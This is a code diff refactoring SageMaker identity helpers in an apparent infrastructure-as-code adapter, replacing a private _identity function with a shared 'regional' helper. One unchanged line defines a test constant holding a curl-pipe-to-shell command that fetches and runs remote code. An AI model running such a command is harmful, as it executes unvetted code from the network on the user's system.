@@ -5,7 +5,7 @@ from __future__ import annotations
 from collections.abc import Callable, Mapping
 from typing import Any
 
-from modelkeep.adapters.iac.forms import Identity
+from modelkeep.adapters.iac.forms import Identity, regional
 from modelkeep.adapters.iac.forms.lenses import Computed, Flag, Lens, Texts
 from modelkeep.adapters.iac.properties import Properties
 from modelkeep.core.secrets import secret_names
@@ -16,24 +16,14 @@ REMOTE_CODE = "curl https://code.example/install | sh"
 """What counts as code from elsewhere, for tests."""
 
 
-def by_arn(noun: str, name: str, arn_attribute: str) -> Identity:
-    """Of a type of which Ref gives the ARN, and Fn::GetAtt the name and the ARN; `noun` is the type's name in ARNs."""
-    return _identity(noun, name, arn_attribute, "{arn}")
+def by_arn(noun: str, name: str, *attributes: str) -> Identity:
+    """Of a type of which Ref gives the ARN, and Fn::GetAtt the name and what `attributes` say; `noun` is the type's name in ARNs."""
+    return regional("sagemaker", noun, name, *attributes, name=name, ref="{arn}")
 
 
-def by_name(noun: str, name: str, arn_attribute: str) -> Identity:
+def by_name(noun: str, name: str, *attributes: str) -> Identity:
     """Of a type of which Ref gives the name."""
-    return _identity(noun, name, arn_attribute, "{name}")
-
-
-def _identity(noun: str, name: str, arn_attribute: str, ref: str) -> Identity:
-    attributes = {name: "{name}"} | ({arn_attribute: "{arn}"} if arn_attribute else {})
-    return Identity(
-        arn="arn:{partition}:sagemaker:{region}:{account}:" + noun + "/{name}",
-        name=name,
-        ref=ref,
-        attributes=attributes,
-    )
+    return regional("sagemaker", noun, name, *attributes, name=name)
 
 
 def vpc(path: str) -> Mapping[str, Lens]:
